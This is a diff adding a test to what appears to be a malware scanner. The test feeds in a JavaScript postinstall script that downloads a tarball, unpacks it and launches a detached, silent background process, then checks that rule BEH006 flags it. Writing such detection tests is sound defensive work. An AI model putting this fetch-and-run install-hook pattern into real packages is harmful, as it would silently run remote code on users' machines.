@@ -83,3 +83,24 @@ def test_a_code_template_is_judged_as_the_code_it_renders_to() -> None:
     assert inner_name("README.md.tmpl") == "README.md.tmpl"
     assert kind_for("templates/security.py.tmpl", "x = 1\n") is TextKind.CODE
     assert kind_for("templates/page.md.tmpl", "# Title\n") is TextKind.MARKDOWN
+
+
+def test_a_download_run_detached_below_the_imports_is_judged_where_it_happens() -> None:
+    from hermes_core.security import Scanner
+
+    imports = (
+        "const { spawn } = require('child_process');\n"
+        "const fetch = require('node-fetch');\nconst tar = require('tar');\n\n"
+    )
+    filler = "".join(f"function helper{n}() {{ return {n}; }}\n" for n in range(12))
+    use = (
+        "\nasync function main() {\n"
+        "  await download(`${ORIGIN}/cache-daemon.tgz`, archive);\n"
+        "  await tar.x({ file: archive, cwd: target });\n"
+        "  const child = spawn(bin, ['--serve'], { detached: true, stdio: 'ignore' });\n"
+        "  child.unref();\n}\n"
+    )
+    findings = Scanner().scan_text(imports + filler + use, "scripts/postinstall.js").findings
+    assert "BEH006" in {f.rule for f in findings}
+    attached = (imports + filler + use).replace("detached: true, ", "")
+    assert "BEH006" not in {f.rule for f in Scanner().scan_text(attached, "x.js").findings}
